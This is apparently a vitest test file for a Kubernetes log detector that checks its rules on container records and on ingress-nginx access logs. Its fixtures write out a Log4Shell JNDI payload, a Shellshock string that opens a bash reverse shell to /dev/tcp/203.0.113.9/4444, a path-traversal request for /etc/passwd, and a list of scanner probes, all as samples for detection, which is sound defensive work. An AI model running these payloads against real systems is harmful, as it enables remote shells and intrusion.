// The shipped rules on container records (rules/containers.yaml) and on ingress access logs (rules/ingress.yaml),
// through the container log parser as the worker runs it: each fires on its behaviour and stays quiet on ordinary output.
import { describe, expect, it } from 'vitest';
import type { ChunkContext } from '../parse/chunk.ts';
import type { ContainerOrigin } from '../parse/container.ts';
import { processBlock } from '../parse/parsers.ts';
import { compilePatterns } from '../parse/patterns.ts';
import { compileRedaction } from '../parse/redact.ts';
import { DetectorHost, systemRuleFiles } from './setup.ts';

const app = { namespace: 'shop', pod: 'web-7d4b9-x2x9k', pod_uid: '0f6c1b1e-3c55-4b8f-9d7e-1d2b3c4d5e6f', container: 'app', container_id: 'a'.repeat(64) };
const controller = { namespace: 'ingress-nginx', pod: 'ingress-nginx-controller-5c8d66c76d-4gq7s', pod_uid: '1a2b3c4d-0000-4000-8000-000000000001', container: 'controller', container_id: 'b'.repeat(64) };

function detecting(): ChunkContext {
  const host = new DetectorHost({ ruleFiles: systemRuleFiles(), clusterName: 'prod', clusterId: 'c-1', updateIntervalMs: 0 });
  return { redactor: compileRedaction({ secrets: true, token_requests: true, paths: [] }), detector: host.detector, patterns: compilePatterns(undefined), collectHits: true };
}

const origin = (kubernetes: object, ingress?: string): ContainerOrigin => ({
  parser: 'containers', fileKey: 'f00d', offset: 0, kubernetes: JSON.stringify(kubernetes), maxMessageBytes: 1024 * 1024, continues: false, ingress,
});

/** CRI lines of `messages`, `stepMs` apart from 10:00. */
function cri(messages: string[], stepMs = 1000): Buffer {
  const start = Date.parse('2026-12-07T10:00:00Z');
  return Buffer.from(messages.map((m, i) => `${new Date(start + i * stepMs).toISOString().replace('Z', '123456Z')} stdout F ${m}\n`).join(''));
}

/** The rule ids that hit, in order, for container output `messages` (one parser pass, one engine). */
function ruleHits(messages: string[], o = origin(app), ctx = detecting()): string[] {
  const r = processBlock(cri(messages), ctx, o);
  expect(r.bad).toEqual([]);
  return (r.hits ?? []).map((h) => h.ruleId);
}

const ORDINARY_APP_OUTPUT = [
  'Starting web server on :8080',
  '{"level":"info","ts":"2026-12-07T10:00:01Z","msg":"order created","order_id":"A-1029","amount":"12.50"}',
  '10.244.0.1 - - [07/Dec/2026:10:00:02 +0000] "GET /healthz HTTP/1.1" 200 2 "-" "kube-probe/1.26"',
  'Exception in thread "main" java.lang.IllegalStateException: cart is empty',
  '\tat com.example.shop.Cart.checkout(Cart.java:42)',
  'WARN  rendering template ${customer.name} for order A-1029',
  'Installing signal handlers',
  'Connected to postgres at db.shop.svc:5432 as app',
  'Setting up routes (12 handlers)',
  'npm notice New minor version of npm available',
];

describe('rules on container logs', () => {
  it('stay quiet on ordinary application output', () => {
    expect(ruleHits(ORDINARY_APP_OUTPUT)).toEqual([]);
  });

  it('KA-CLOG-001 fires on a credential a container printed, and the alarm shows it blanked', () => {
    const ctx = detecting();
    const r = processBlock(cri(['connecting to postgres://app:hunter2secret@db.shop.svc:5432/shop']), ctx, origin(app));
    expect((r.hits ?? []).map((h) => h.ruleId)).toEqual(['KA-CLOG-001']);
    expect(r.alarms).toHaveLength(1);
    const alarm = JSON.parse(r.alarms[0].payload);
    expect(alarm).toMatchObject({ source: 'containers', rule: { id: 'KA-CLOG-001' }, evidence: { redacted: true, kubernetes: { namespace: 'shop', container: 'app' } } });
    expect(r.alarms[0].payload).not.toContain('hunter2secret');
    expect(alarm.summary).toContain('[redacted: ');
    // The forwarded record says so too.
    expect(JSON.parse(r.replaced[0][1])).toMatchObject({ redacted: true });
  });

  it('KA-CLOG-002 fires on an exploit payload an application logged, not on template text', () => {
    expect(ruleHits(['WARN invalid header X-Api-Version: ${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/aWQ=}'])).toEqual(['KA-CLOG-002']);
    expect(ruleHits(['bad input: () { :; }; /bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"'])).toEqual(['KA-CLOG-002']);
    expect(ruleHits(['WARN rendering template ${customer.name}'])).toEqual([]);
  });

  it('KA-CLOG-003 fires on a shell started without a terminal, not on a program mentioning a tty', () => {
    expect(ruleHits(['sh: can\'t access tty; job control turned off'])).toEqual(['KA-CLOG-003']);
    expect(ruleHits(['bash: cannot set terminal process group (1): Inappropriate ioctl for device', 'bash: no job control in this shell'])).toEqual(['KA-CLOG-003', 'KA-CLOG-003']);
    expect(ruleHits(['no tty present, logging to file'])).toEqual([]);
  });

  it('KA-CLOG-004 fires on apk, dpkg, pip and dnf installing, not on messages that only say install', () => {
    expect(ruleHits(['(1/4) Installing ca-certificates (20240226-r0)'])).toEqual(['KA-CLOG-004']);
    expect(ruleHits(['Setting up curl (7.88.1-10+deb12u5) ...'])).toEqual(['KA-CLOG-004']);
    expect(ruleHits(['Successfully installed requests-2.31.0 urllib3-2.1.0'])).toEqual(['KA-CLOG-004']);
    expect(ruleHits(['Installed:'])).toEqual(['KA-CLOG-004']);
    expect(ruleHits(['Installing signal handlers', 'Setting up routes (12 handlers)', 'Successfully installed the plugin'])).toEqual([]);
  });

  it('namespaces: scoping and rules on audit events do not see container records', () => {
    // A custom rule on the shop namespace only, beside the shipped ones: records of other namespaces pass it by.
    const host = new DetectorHost({ ruleFiles: systemRuleFiles(), clusterName: 'prod', clusterId: 'c-1', updateIntervalMs: 0 });
    const ctx: ChunkContext = { ...detecting(), detector: host.detector };
    expect(ruleHits(['sh: can\'t access tty; job control turned off'], origin({ ...app, namespace: 'dev' }), ctx)).toEqual(['KA-CLOG-003']);
  });
});

// ---------- ingress ----------

const T0 = Date.parse('2026-12-07T10:00:00Z');
/** `07/Dec/2026:10:00:05 +0000` for `sec` seconds after T0. */
const timeLocal = (sec: number) => {
  const d = new Date(T0 + sec * 1000);
  return `07/Dec/2026:${String(d.getUTCHours()).padStart(2, '0')}:${String(d.getUTCMinutes()).padStart(2, '0')}:${String(d.getUTCSeconds()).padStart(2, '0')} +0000`;
};

interface Req { ip: string; sec: number; method?: string; path: string; status: number; ua?: string; referer?: string; upstream?: string }

/** One access-log line in the controller's default format. */
function accessLine(r: Req): string {
  const upstream = r.upstream ?? 'shop-web-80';
  const upstreamStatus = r.status === 404 && upstream === '-' ? '-' : String(r.status);
  return `${r.ip} - - [${timeLocal(r.sec)}] "${r.method ?? 'GET'} ${r.path} HTTP/1.1" ${r.status} ${r.status === 200 ? 1534 : 150} "${r.referer ?? '-'}" "${r.ua ?? BROWSER}" `
    + `412 0.004 [${upstream === '-' ? '' : upstream}] [] ${upstream === '-' ? '-' : '10.244.1.17:8080'} ${upstream === '-' ? '-' : 1534} ${upstream === '-' ? '-' : '0.004'} ${upstreamStatus} ${(r.sec * 7919).toString(16)}`;
}

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';

/** Ordinary traffic: many clients browsing, a few missing pages and refused logins, a few upstream errors. */
function ordinaryTraffic(): Req[] {
  const paths = ['/', '/products', '/products/42', '/cart', '/api/v1/orders?page=2', '/static/app.3f9c1.js', '/static/app.css', '/images/logo.png', '/search?q=red+shoes', '/account'];
  const out: Req[] = [];
  for (let i = 0; i < 600; i++) {
    const ip = `198.51.100.${(i * 37) % 200 + 1}`;
    let status = 200;
    if (i % 50 === 7) status = 404; // a stale link
    if (i % 90 === 11) status = 401; // a mistyped password
    if (i % 150 === 13) status = 502; // a pod restarting
    out.push({ ip, sec: Math.floor(i / 5), path: paths[i % paths.length], status, method: i % 9 === 0 ? 'POST' : 'GET', referer: 'https://shop.example.com/' });
  }
  // One busy client behind a NAT: many requests, a handful of 404s.
  for (let i = 0; i < 120; i++) out.push({ ip: '192.0.2.200', sec: i % 60, path: `/products/${i}`, status: i % 20 === 0 ? 404 : 200 });
  return out.sort((a, b) => a.sec - b.sec);
}

/** A scripted scan of one client: a scanner's user agent, probes for leaked files and consoles, traversal, a flood of 404s. */
function scan(): Req[] {
  const ip = '203.0.113.66';
  const out: Req[] = [];
  const probes = ['/.env', '/.git/config', '/wp-login.php', '/actuator/env', '/phpmyadmin/index.php', '/cgi-bin/luci', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'];
  probes.forEach((p, i) => out.push({ ip, sec: 100 + i, path: p, status: 404, ua: 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))' }));
  out.push({ ip, sec: 110, path: '/static/..%2f..%2f..%2fetc/passwd', status: 400, ua: 'curl/8.5.0' });
  out.push({ ip, sec: 111, path: '/api/v1/render?tpl=${jndi:ldap://203.0.113.66:1389/a}', status: 404, ua: 'curl/8.5.0' });
  for (let i = 0; i < 60; i++) out.push({ ip, sec: 120 + i / 2, path: `/admin${i}`, status: 404, ua: 'curl/8.5.0' });
  return out;
}

/** The controller's output: access lines and some of its own log lines between them. */
function controllerOutput(reqs: Req[]): string[] {
  const out: string[] = ['I1207 10:00:00.000000       7 controller.go:190] "Configuration changes detected, backend reload required"'];
  reqs.forEach((r, i) => {
    out.push(accessLine(r));
    if (i % 200 === 199) out.push('2026/12/07 10:00:00 [warn] 33#33: *1 an upstream response is buffered to a temporary file');
  });
  return out;
}

function ingressAlarms(messages: string[]): Array<{ rule: string; summary: string; evidence: Record<string, any> }> {
  // A busy controller: the lines are written 50 ms apart (rate rules count by the record's time).
  const r = processBlock(cri(messages, 50), detecting(), origin(controller, 'default'));
  expect(r.bad).toEqual([]);
  return r.alarms.map((a) => JSON.parse(a.payload)).map((a) => ({ rule: a.rule.id, summary: a.summary, evidence: a.evidence }));
}

describe('rules on ingress access logs', () => {
  it('stay quiet on ordinary traffic', () => {
    expect(ingressAlarms(controllerOutput(ordinaryTraffic()))).toEqual([]);
  });

  it('fire on a scripted scan: scanner user agent, exploit probes, traversal and a burst of 404s from one client', () => {
    const alarms = ingressAlarms(controllerOutput([...ordinaryTraffic(), ...scan()].sort((a, b) => a.sec - b.sec)));
    expect([...new Set(alarms.map((a) => a.rule))].sort()).toEqual(['KA-INGRESS-001', 'KA-INGRESS-002', 'KA-INGRESS-003', 'KA-INGRESS-004']);
    for (const a of alarms) expect(a.evidence.ingress.client_ip).toBe('203.0.113.66');
    const traversal = alarms.find((a) => a.rule === 'KA-INGRESS-002')!;
    expect(traversal.summary).toBe('203.0.113.66 tried path traversal on shop-web-80: GET /static/..%2f..%2f..%2fetc/passwd (400, 150 bytes)');
    expect(alarms.find((a) => a.rule === 'KA-INGRESS-004')!.summary).toMatch(/^203\.0\.113\.66 got more than 50 answers 401\/403\/404 within a minute, the last 404 for GET \/admin\d+ on shop-web-80 as curl\/8\.5\.0$/);
    // The Log4Shell probe is an ingress alarm, not also a container-log one.
    expect(alarms.map((a) => a.rule)).not.toContain('KA-CLOG-002');
  });

  it('KA-INGRESS-005 fires on a burst of 5xx from one upstream, not on a few', () => {
    const failing = Array.from({ length: 25 }, (_, i): Req => ({ ip: `198.51.100.${i + 1}`, sec: 200 + i, path: '/checkout', status: 503, upstream: 'shop-checkout-80' }));
    const alarms = ingressAlarms(controllerOutput([...ordinaryTraffic(), ...failing]));
    expect(alarms.map((a) => a.rule)).toEqual(['KA-INGRESS-005']);
    expect(alarms[0].summary).toBe('shop-checkout-80 answered more than 20 times 5xx within a minute, the last 503 (upstream 503 from 10.244.1.17:8080) for GET /checkout');
    expect(ingressAlarms(controllerOutput(failing.slice(0, 20)))).toEqual([]);
  });

  it('only containers configured as ingress controllers get ingress fields and rules', () => {
    const lines = controllerOutput(scan());
    const r = processBlock(cri(lines), detecting(), origin(controller));
    expect(r.alarms.map((a) => JSON.parse(a.payload).rule.id).filter((id: string) => id.startsWith('KA-INGRESS'))).toEqual([]);
    expect(r.replaced.some(([, t]) => 'ingress' in JSON.parse(t))).toBe(false);
    const withFields = processBlock(cri(lines), detecting(), origin(controller, 'default'));
    const docs = withFields.replaced.map(([, t]) => JSON.parse(t));
    expect(docs.filter((d) => d.ingress !== undefined)).toHaveLength(lines.length - 1);
    expect(docs[0].ingress).toBeUndefined(); // the controller's own log line
    expect(docs[1].ingress).toMatchObject({ client_ip: '203.0.113.66', method: 'GET', path: '/.env', status: 404, upstream_name: 'shop-web-80' });
  });
});
